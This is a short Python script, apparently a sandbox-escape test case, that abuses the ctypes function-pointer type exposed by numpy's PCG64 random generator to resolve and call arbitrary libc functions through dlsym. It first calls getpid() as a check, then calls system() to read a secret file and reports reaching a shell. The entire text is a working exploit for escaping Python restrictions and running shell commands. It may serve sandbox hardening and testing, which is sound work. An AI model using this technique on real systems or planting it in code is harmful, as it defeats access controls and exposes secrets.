# attack: random generators hand out C function pointers; their type makes pointers to any function of any library: system(), by dlsym
# family: numpy
import numpy
interface = numpy.random.PCG64().ctypes
class Everywhere:
    _handle = 0
pointer = type(interface.next_uint64)
print("REACHED", pointer(("getpid", Everywhere()))(None))
pointer(("system", Everywhere()))(b"cat '$SECRET_FILE'")
print("REACHED a shell, unless there is none")
